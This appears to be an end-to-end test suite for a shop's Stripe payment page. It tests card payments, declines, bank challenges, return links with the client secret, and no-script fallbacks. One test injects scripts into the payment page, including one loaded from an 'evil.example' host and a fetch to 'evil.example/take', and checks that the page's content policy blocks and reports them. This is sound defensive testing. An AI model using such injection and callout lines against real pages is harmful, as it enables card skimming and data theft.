// Paying through Stripe: the shop's own page, a stand-in for Stripe's script, and the test Stripe behind it.
import { mkdirSync } from "node:fs";
import { DESK, PHONE, axe, overflow } from "../lib/browser.mjs";
import { eventually, must, same } from "../lib/check.mjs";
import { addToBag, fillCheckout, goToCheckout, openPiece, orderNumber } from "../lib/shopper.mjs";
import { reachStripe, stripeHouse } from "../lib/stripe.mjs";

const shots = process.env.E2E_SHOTS;
const SIZES = [["390", PHONE], ["1440", DESK]];

/** Pictures of a page at both sizes, where somebody wants to look at them. */
async function shoot(page, name) {
  if (!shots) return;
  mkdirSync(shots, { recursive: true });
  for (const [form, size] of SIZES) {
    await page.setViewportSize(size);
    await page.screenshot({ path: `${shots}/${name}-${form}.png`, fullPage: true });
  }
}

/** The button that leads to the payment page; a dear piece may also be paid in parts. */
const LEADS_ON = /^(Continue to payment|Go on as chosen)/;

/** A shopper with a piece in the bag, on the payment page of their order. */
async function toPayment(ctx, { at, path, options = {}, script } = {}) {
  const house = at ?? (await stripeHouse(ctx.house));
  const { page, context, problems } = await ctx.visit({ base: house.base, tolerate: [/status of 402/], ...options });
  await reachStripe(context, house, script === undefined ? {} : { script });
  await openPiece(page, path);
  const javaScript = options.javaScript ?? true;
  await addToBag(page, { javaScript });
  await goToCheckout(page);
  // the button of the demonstration says "Pay"; here it leads on
  await fillCheckout(page, undefined, LEADS_ON);
  return { page, context, house, problems };
}

async function onPage(ctx, more) {
  const found = await toPayment(ctx, more);
  await found.page.getByRole("button", { name: LEADS_ON }).click();
  await found.page.waitForURL(/\/checkout\/pay\/JC-/);
  return found;
}

const card = async (page, number) => {
  await page.getByLabel("Card number").fill(number);
  await page.locator("payment-form form[data-form] button[type=submit]").click();
};

const notice = (page) => page.locator("[data-notice]");

const paysOnce = {
  name: "a card is taken on the payment page, and nothing of the order is typed twice",
  run: async (ctx) => {
    const { page, house } = await toPayment(ctx);
    await shoot(page, "checkout");
    await page.getByRole("button", { name: LEADS_ON }).click();
    await page.waitForURL(/\/checkout\/pay\/JC-[0-9A-Z]{7}$/);
    must(!page.url().includes("key="), "no key stands in the address that Stripe's script can read");
    await page.getByLabel("Card number").waitFor();
    await shoot(page, "payment");
    for (const [, size] of SIZES) {
      await page.setViewportSize(size);
      const found = [...(await axe(page)), ...(await overflow(page))];
      same(found.length, 0, `findings at ${size.width}:\n${found.join("\n")}`);
    }
    const scripts = await page.evaluate(() => [...document.scripts].map((script) => script.src || "inline"));
    same(scripts.length, 2, `scripts of the page: ${scripts.join(", ")}`);
    const sent = [];
    page.on("request", (request) => request.url().includes("/confirm") && sent.push(request.postData()));
    await card(page, "4242 4242 4242 4242");
    await page.waitForURL(/\/checkout\/complete\//);
    const told = new URLSearchParams(sent[0]);
    same(told.get("payment_method_data[billing_details][name]"), "Ada Byron", "the name the bank is told");
    same(told.get("payment_method_data[billing_details][address][postal_code]"), "10013", "the postal code the bank is told");
    await page.getByRole("heading", { level: 1, name: "Thank you, Ada." }).waitFor();
    await shoot(page, "paid");
    const number = await orderNumber(page);
    await page.goto(`/checkout/pay/${number}`);
    await page.waitForURL(/\/checkout\/complete\//);
    must((await page.context().cookies()).every((cookie) => cookie.name !== "paying" || cookie.httpOnly), "the key's cookie is hidden");
    must(house.printed().length > 0, "the house is alive");
  },
};

const declines = {
  name: "each kind of no says what to do, and the same page takes the next card",
  run: async (ctx) => {
    const { page } = await onPage(ctx);
    await page.getByLabel("Card number").waitFor();
    await page.locator("payment-form form[data-form] button[type=submit]").click();
    await page.waitForTimeout(200);
    same((await notice(page).innerText()).trim(), "", "an incomplete card is Stripe's to say");
    for (const [number, words, name] of [
      ["4000000000009995", /does not hold enough/, "funds"],
      ["4000000000000069", /has expired/, "expired"],
      ["4000000000000127", /details does not match/, "details"],
      ["4000000000000002", /Your bank declined this payment/, "bank"],
    ]) {
      await card(page, number);
      await notice(page).getByText(words).waitFor();
      must((await notice(page).innerText()).includes("Nothing was charged."), "it says that nothing was charged");
      await shoot(page, `declined-${name}`);
    }
    await page.reload();
    await notice(page).getByText(/Your bank declined this payment/).waitFor();
    await page.getByText("My card is registered at another address").click();
    await page.getByLabel("Postal code of the card").waitFor();
    await card(page, "4242424242424242");
    await page.waitForURL(/\/checkout\/complete\//);
  },
};

const challenged = {
  name: "the bank's question is answered on the page, or later",
  run: async (ctx) => {
    const { page } = await onPage(ctx);
    await card(page, "4000002760003184");
    const dialog = page.getByRole("dialog", { name: "Your bank" });
    await dialog.waitFor();
    await shoot(page, "challenge");
    await page.reload();
    await notice(page).getByText("Your bank is waiting for your answer.").waitFor();
    await shoot(page, "challenge-later");
    await page.getByRole("button", { name: "Answer my bank" }).click();
    await dialog.getByRole("button", { name: "No" }).click();
    await notice(page).getByText(/could not make sure that it was you/).waitFor();
    await shoot(page, "declined-authentication");
    await card(page, "4000002760003184");
    await dialog.getByRole("button", { name: "Yes, it was me" }).click();
    await page.waitForURL(/\/checkout\/complete\//);
  },
};

const waits = {
  name: "a bank at work, and money that people look at, are told as what they are",
  run: async (ctx) => {
    const slow = await onPage(ctx);
    await card(slow.page, "slow");
    await slow.page.waitForURL(/\/checkout\/complete\//);
    await slow.page.getByRole("heading", { level: 1, name: "Your bank is at work." }).waitFor();
    await shoot(slow.page, "processing");
    await slow.page.goto("/checkout");
    await slow.page.waitForURL(/\/checkout\/complete\//);

    const dear = await onPage(ctx);
    await card(dear.page, "4000000000009235");
    await dear.page.waitForURL(/\/checkout\/complete\//);
    await dear.page.getByRole("heading", { level: 1, name: "Your payment is authorized." }).waitFor();
    await shoot(dear.page, "authorized");
  },
};

const elsewhere = {
  name: "whoever comes back from the bank in another browser is let in by the payment's secret, and by nothing less",
  run: async (ctx) => {
    const { page, house } = await onPage(ctx);
    const secret = await page.locator("payment-form").getAttribute("data-secret");
    const back = `${new URL(page.url()).pathname}/return?payment_intent=${secret.split("_secret")[0]}`;
    const other = await ctx.visit({ base: house.base });
    await other.page.goto(`${back}&payment_intent_client_secret=${secret.slice(0, -1)}x&redirect_status=succeeded`);
    must(/\/bag$|\/checkout$/.test(other.page.url()), `a wrong secret leads nowhere: ${other.page.url()}`);
    await reachStripe(other.context, house);
    await other.page.goto(`${back}&payment_intent_client_secret=${secret}&redirect_status=succeeded`);
    await other.page.waitForURL(/\/checkout\/pay\/JC-/);
    await other.page.getByLabel("Card number").waitFor();
  },
};

const narrow = {
  name: "a script that is not in the inventory does not run on the payment page, and is reported",
  run: async (ctx) => {
    const { page, house, problems } = await onPage(ctx, { options: { tolerate: [/./] } });
    await page.getByLabel("Card number").waitFor();
    const ran = await page.evaluate(async () => {
      const tries = ["data:text/javascript,window.ran='data'", "https://evil.example/x.js", `${location.origin}/assets/storefront.js?x`];
      for (const src of tries) {
        const script = document.createElement("script");
        script.src = src;
        document.head.append(script);
      }
      const inline = document.createElement("script");
      inline.textContent = "window.ran='inline'";
      document.head.append(inline);
      const asked = await fetch("https://evil.example/take").then(() => "asked", () => "blocked");
      await new Promise((resolve) => setTimeout(resolve, 500));
      return `${window.ran ?? "nothing"} ${asked} ${[...customElements.get("bag-count") ? ["storefront"] : []]}`.trim();
    });
    same(ran, "nothing blocked", "what ran");
    must(problems.length === 0, problems.join("\n"));
    // browsers deliver such reports in their own time
    await eventually("the house logs the report", 20_000, async () => house.printed().includes("a browser says that a page's policy"));
  },
};

const without = {
  name: "without script, or without Stripe's, the payment page says how to go on",
  run: async (ctx) => {
    const plain = await onPage(ctx, { options: { javaScript: false } });
    const words = await plain.page.locator("main").innerText();
    must(words.includes("need JavaScript") && words.includes("held for you until"), `the page without script:\n${words}`);
    await shoot(plain.page, "without-script");
    const blocked = await onPage(ctx, { script: null, options: { tolerate: [/status of 402/, /ERR_FAILED/] } });
    await blocked.page.getByText("The payment form did not arrive.").waitFor();
    await shoot(blocked.page, "without-stripe");
  },
};

const byTheMonth = {
  name: "instalments are told inside the lender's limits, with their terms",
  run: async (ctx) => {
    const house = await stripeHouse(ctx.house);
    const { page } = await ctx.visit({ base: house.base });
    await openPiece(page);
    await page.getByText(/From \$[\d,.]+ a month/).first().waitFor();
    await shoot(page, "product-instalments");
    const { page: demo } = await ctx.visit();
    await openPiece(demo);
    must(!(await demo.locator("main").innerText()).includes("a month"), "the demonstration promises no instalments");
  },
};

export default [paysOnce, declines, challenged, waits, elsewhere, narrow, without, byTheMonth];
